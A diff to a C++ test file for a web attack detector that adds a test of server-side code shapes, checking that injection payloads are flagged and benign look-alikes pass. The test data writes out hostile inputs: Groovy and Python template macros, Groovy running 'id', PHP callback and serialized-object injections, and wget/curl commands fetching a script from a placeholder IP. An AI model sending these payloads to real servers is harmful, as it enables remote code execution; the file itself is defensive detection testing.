@@ -354,6 +354,29 @@ TEST_F(DetectorsTest, DotNetDeserializationGadgets) {
   EXPECT_TRUE(detects(json(R"({"username": "admin", "password": {"$type": "string"}})"), AttackClass::Nosqli));
 }
 
+// Server-side code in the shapes exploit requests carry: a wiki's script macro, Groovy running
+// a string as a command, a PHP function name that a callback parameter calls, a serialized
+// PHP object opened by a quote, a download command as the whole value.
+TEST_F(DetectorsTest, ServerSideCodeShapes) {
+  EXPECT_TRUE(detects(query("%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7Dprintln(1)%7B%7B%2Fgroovy%7D%7D"),
+                      AttackClass::Ssti));
+  EXPECT_TRUE(detects(query("%7B%7Bpython%7D%7Dprint(7*7)%7B%7B%2Fpython%7D%7D"), AttackClass::Ssti));
+  EXPECT_TRUE(clean(query("%7B%7Bpod%7D%7D+-+%7B%7Bcontainer%7D%7D")));
+  EXPECT_TRUE(clean(query("velocity+script+groovy")));
+  EXPECT_TRUE(clean(form("raw=%23+kool%0A%0ARun+a+script%3A%0A%0A%60kool+run+%7B%7Bscript%7D%7D%60%0A")));
+  EXPECT_TRUE(detects(form("groovyProgram=throw+new+Exception(%27id%27.execute().text)%3B"), AttackClass::CodeInjection));
+  EXPECT_TRUE(detects(query("phpinfo"), AttackClass::CodeInjection));
+  EXPECT_TRUE(detects(form("_method=__construct&filter%5B%5D=phpinfo&method=get"), AttackClass::CodeInjection));
+  EXPECT_TRUE(clean(query("phpinfo+output+explained")));
+  EXPECT_TRUE(clean(query("system")));
+  EXPECT_TRUE(detects(query("%22O%3A13%3A%22WP_HTML_Token%22%3A2%3A%7Bs%3A13%3A%22bookmark_name%22%3Bs%3A1%3A%22x%22%3B%7D"),
+                      AttackClass::CodeInjection));
+  EXPECT_TRUE(detects(form("mac=wget+http%3A%2F%2F198.51.100.7%2Fa.sh&wifiEn=true"), AttackClass::Rce));
+  EXPECT_TRUE(detects(form("x=curl+-s+-o+%2Ftmp%2Fa+https%3A%2F%2F198.51.100.7%2Fa"), AttackClass::Rce));
+  EXPECT_TRUE(clean(json(R"({"description": "curl https://api.example.com/v1/users -H \"Authorization: Bearer x\""})")));
+  EXPECT_TRUE(clean(query("how+to+use+wget+with+a+proxy")));
+}
+
 TEST_F(DetectorsTest, NodeModuleLoaderReflection) {
   for (const char* q : {"%23%7Brequire.main.constructor._load(%27fs%27).readdirSync(%27.%27)%7D",
                         "module.constructor._load(%27child_process%27)",
